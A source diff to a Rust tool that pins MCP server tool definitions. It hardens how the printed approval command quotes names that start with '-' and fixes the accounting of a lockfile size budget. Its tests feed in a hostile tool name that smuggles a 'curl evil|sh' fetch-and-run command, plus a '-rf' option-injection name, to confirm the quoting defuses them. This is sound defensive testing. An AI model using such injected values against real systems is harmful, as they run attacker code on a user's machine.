@@ -122,10 +122,15 @@ fn sorted(v: &Value) -> Value {
 /// names are the server's (or a project's configuration's) choice, so each is quoted where it
 /// holds more than plain characters, and cannot become shell syntax.
 pub fn approve_command(server: &str, tool: &str) -> String {
+    // A name that starts with `-` would be read as an option after a space.
+    let option = |name: &str, value: &str| {
+        let sep = if value.starts_with('-') { '=' } else { ' ' };
+        format!("--{name}{sep}{}", shell_word(value))
+    };
     format!(
-        "mcpwall pins approve --server {} --tool {}",
-        shell_word(server),
-        shell_word(tool)
+        "mcpwall pins approve {} {}",
+        option("server", server),
+        option("tool", tool)
     )
 }
 
@@ -281,8 +286,9 @@ impl Lock {
             // new names at every listing must not grow a lockfile every mcpwall process
             // re-reads. Beyond the bound a change is still withheld, just not recorded for
             // approval.
-            let room =
-                pins.pending.contains_key(*name) || (pins.pending.len() < MAX_PENDING && fits);
+            let replaced = pins.pending.get(*name).map_or(0, |p| p.definition.len());
+            let room = (replaced > 0 || pins.pending.len() < MAX_PENDING)
+                && stored.saturating_sub(replaced).saturating_add(size) <= MAX_SERVER_BYTES;
             if !status.allowed() && room && pins.pending.get(*name) != Some(&pin) {
                 stored += size;
                 if let Some(old) = pins.pending.insert((*name).to_owned(), pin) {
@@ -355,6 +361,10 @@ mod tests {
         assert_eq!(
             approve_command("a b", "x'$(curl evil|sh)'"),
             r"mcpwall pins approve --server 'a b' --tool 'x'\''$(curl evil|sh)'\'''"
+        );
+        assert_eq!(
+            approve_command("s", "-rf"),
+            "mcpwall pins approve --server s --tool=-rf"
         );
         assert_eq!(shell_word(""), "''");
         assert_eq!(shell_word("a;b\nc"), "'a;b\nc'");
@@ -430,6 +440,26 @@ mod tests {
         assert_eq!(c.tools, vec![("huge".to_owned(), ToolStatus::Oversized)]);
         assert!(!ToolStatus::Oversized.allowed());
         assert!(lock.servers["s"].tools.is_empty());
+        // Small pending changes replaced by large ones under the same names stay within it.
+        let mut lock = Lock::new();
+        lock.check("s", &[("a", &json!({"name": "a"}))], Listing::Whole, false);
+        let names: Vec<String> = (0..200).map(|k| format!("t{k}")).collect();
+        let small: Vec<Value> = names.iter().map(|n| json!({"name": n})).collect();
+        let large: Vec<Value> = names
+            .iter()
+            .map(|n| json!({"name": n, "description": "x".repeat(100_000)}))
+            .collect();
+        for defs in [&small, &large] {
+            let listed: Vec<(&str, &Value)> =
+                names.iter().map(String::as_str).zip(defs.iter()).collect();
+            lock.check("s", &listed, Listing::Whole, false);
+        }
+        let kept: usize = lock.servers["s"]
+            .pending
+            .values()
+            .map(|p| p.definition.len())
+            .sum();
+        assert!(kept <= MAX_SERVER_BYTES, "{kept}");
         // Many large ones: pinned or recorded up to the server's budget, withheld beyond it.
         let big = |k: usize| json!({"name": format!("t{k}"), "description": "x".repeat(100_000)});
         let tools: Vec<(String, Value)> = (0..200).map(|k| (format!("t{k}"), big(k))).collect();
